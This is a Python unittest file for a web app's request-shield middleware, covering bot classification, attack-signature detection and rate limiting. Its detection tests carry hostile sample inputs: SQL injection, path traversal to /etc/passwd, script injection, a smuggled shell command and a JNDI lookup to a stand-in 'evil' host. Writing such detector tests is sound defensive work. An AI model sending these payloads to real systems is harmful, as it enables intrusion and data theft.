"""Tests for the request shield: rate limiting, attack signatures and bot detection."""

import unittest
from unittest.mock import patch

from app.core.shield import RateLimiter, classify_user_agent, match_attack_signature
from support import make_client, make_settings

PROD = {"APP_ENV": "production", "JWT_SECRET": "prod-secret"}


class TestClassifyUserAgent(unittest.TestCase):
    def test_categories(self) -> None:
        cases = {
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "SEARCH_ENGINE",
            "facebookexternalhit/1.1": "PREVIEW",
            "Slackbot-LinkExpanding 1.0": "PREVIEW",
            "curl/8.4.0": "AUTOMATED",
            "python-requests/2.31.0": "AUTOMATED",
            "SomeRandomCrawler/0.1": "UNKNOWN",
            "": "UNKNOWN",
            None: "UNKNOWN",
        }
        for user_agent, expected in cases.items():
            with self.subTest(user_agent=user_agent):
                self.assertEqual(classify_user_agent(user_agent), expected)

    def test_browser_is_not_a_bot(self) -> None:
        ua = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15"
        self.assertIsNone(classify_user_agent(ua))


class TestAttackSignatures(unittest.TestCase):
    def test_known_payloads(self) -> None:
        cases = {
            "/users?id=1 UNION SELECT password FROM users": "sql_injection",
            "/users?id=1' OR 1=1": "sql_injection",
            "/download?file=../../etc/passwd": "path_traversal",
            "/search?q=<script>alert(1)</script>": "script_injection",
            "/ping?host=127.0.0.1; cat /etc/hosts": "command_injection",
            "/x?q=${jndi:ldap://evil/a}": "jndi_lookup",
        }
        for target, expected in cases.items():
            with self.subTest(target=target):
                self.assertEqual(match_attack_signature(target), expected)

    def test_ordinary_requests_pass(self) -> None:
        for target in ("/api/auth/sign-up", "/health", "/items?ls=1&sort=name", "/a?email=ann@x.com"):
            with self.subTest(target=target):
                self.assertIsNone(match_attack_signature(target))


class TestShieldMiddleware(unittest.TestCase):
    def test_attack_query_is_forbidden(self) -> None:
        client, _ = make_client()
        resp = client.get("/health", params={"id": "1 UNION SELECT password FROM users"})
        self.assertEqual(resp.status_code, 403)
        self.assertEqual(resp.json(), {"error": "Forbidden"})

    def test_jndi_header_is_forbidden(self) -> None:
        client, _ = make_client()
        resp = client.get("/health", headers={"User-Agent": "${jndi:ldap://evil/a}"})
        self.assertEqual(resp.status_code, 403)

    def test_attack_blocked_before_auth_logic(self) -> None:
        client, session_factory = make_client()
        resp = client.post(
            "/api/auth/sign-up?next=../../etc/passwd",
            json={"name": "Ann", "email": "ann@x.com", "password": "secret123"},
        )
        self.assertEqual(resp.status_code, 403)
        with session_factory() as db:
            from app.models import User

            self.assertEqual(db.query(User).count(), 0)

    def test_dry_run_lets_requests_through(self) -> None:
        client, _ = make_client(make_settings(SHIELD_MODE="dry_run"))
        with self.assertLogs("app.core.shield", level="WARNING") as logs:
            resp = client.get("/health", params={"f": "../../etc/passwd"})
        self.assertEqual(resp.status_code, 200)
        self.assertIn("Shield dry run", "\n".join(logs.output))

    def test_bots_denied_only_in_production(self) -> None:
        dev_client, _ = make_client()
        self.assertEqual(dev_client.get("/health", headers={"User-Agent": "curl/8.4.0"}).status_code, 200)

        prod_client, _ = make_client(make_settings(**PROD))
        self.assertEqual(prod_client.get("/health", headers={"User-Agent": "curl/8.4.0"}).status_code, 403)

    def test_allowed_bot_categories_pass_in_production(self) -> None:
        client, _ = make_client(make_settings(**PROD))
        for ua in ("Googlebot/2.1", "facebookexternalhit/1.1", "Mozilla/5.0 Firefox/128.0"):
            with self.subTest(user_agent=ua):
                self.assertEqual(client.get("/health", headers={"User-Agent": ua}).status_code, 200)


class TestRateLimit(unittest.TestCase):
    def test_sliding_window_rejects_over_threshold(self) -> None:
        client, _ = make_client(make_settings(RATE_LIMIT="5 per 2 seconds"))
        statuses = [client.get("/health").status_code for _ in range(6)]
        self.assertEqual(statuses[:5], [200] * 5)
        self.assertEqual(statuses[5], 429)

    def test_rejection_body_and_no_auth_logic(self) -> None:
        client, _ = make_client(make_settings(RATE_LIMIT="1 per 10 seconds"))
        client.get("/health")
        with patch("app.services.auth.authenticate_user") as authenticate:
            resp = client.post("/api/auth/login", json={"email": "ann@x.com", "password": "x"})
        self.assertEqual(resp.status_code, 429)
        self.assertEqual(resp.json(), {"error": "Too many requests"})
        authenticate.assert_not_called()

    def test_unknown_paths_are_counted(self) -> None:
        client, _ = make_client(make_settings(RATE_LIMIT="1 per 10 seconds"))
        statuses = [client.get("/nope").status_code for _ in range(3)]
        self.assertEqual(statuses, [404, 429, 429])
        self.assertEqual(client.get("/health").status_code, 429)

    def test_dry_run_logs_instead_of_limiting(self) -> None:
        client, _ = make_client(make_settings(RATE_LIMIT="1 per 10 seconds", SHIELD_MODE="dry_run"))
        with self.assertLogs("app.core.shield", level="WARNING") as logs:
            statuses = [client.get("/health").status_code for _ in range(2)]
        self.assertEqual(statuses, [200, 200])
        self.assertIn("reason=rate_limit", "\n".join(logs.output))

    def test_disabled(self) -> None:
        client, _ = make_client(
            make_settings(RATE_LIMIT="1 per 10 seconds", RATE_LIMIT_ENABLED=False)
        )
        statuses = {client.get("/health").status_code for _ in range(3)}
        self.assertEqual(statuses, {200})

    def test_each_app_has_its_own_counters(self) -> None:
        settings = make_settings(RATE_LIMIT="1 per 10 seconds")
        first, _ = make_client(settings)
        second, _ = make_client(settings)
        self.assertEqual(first.get("/health").status_code, 200)
        self.assertEqual(second.get("/health").status_code, 200)


class TestRateLimiter(unittest.TestCase):
    def test_window_is_per_client(self) -> None:
        limiter = RateLimiter("2 per 10 seconds")
        self.assertEqual([limiter.hit("10.0.0.1") for _ in range(3)], [True, True, False])
        self.assertTrue(limiter.hit("10.0.0.2"))

    def test_disabled_never_limits(self) -> None:
        limiter = RateLimiter("1 per 10 seconds", enabled=False)
        self.assertTrue(all(limiter.hit("10.0.0.1") for _ in range(5)))
